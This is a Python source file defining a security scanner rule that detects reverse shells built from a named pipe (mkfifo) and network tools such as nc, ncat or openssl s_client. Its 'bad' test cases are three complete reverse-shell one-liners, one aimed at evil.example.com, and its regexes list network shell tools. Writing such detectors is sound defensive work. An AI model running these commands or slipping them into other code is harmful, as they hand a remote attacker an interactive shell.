"""A named pipe joins a shell and a connection."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule

FIFO = r"\b(?:mkfifo\s|mknod\s+\S+\s+p\b)"
PEER = r"(?:(?:^|[^\w.@$-])(?:nc|ncat|netcat|telnet|socat)(?:\.traditional|\.openbsd)?\s|\bopenssl\s+s_client\b)"

RULE = ScannerRule(
    id="reverse-shell-mkfifo",
    category="reverse-shell",
    severity="critical",
    message="Joins a shell and a network connection through a named pipe",
    check=(Pattern(rf"{FIFO}.*{PEER}"), Nearby((FIFO, PEER), within=8)),
    bad=(
        "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > f",
        "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > f",
        "mkfifo p\n/bin/sh < p | ncat evil.example.com 4242 > p",
    ),
    good=("mkfifo /run/app/log.pipe", "mkfifo jobs; cat jobs | sort", "the func reads a fifo"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/004/",),
    tags=("network", "execute"),
)
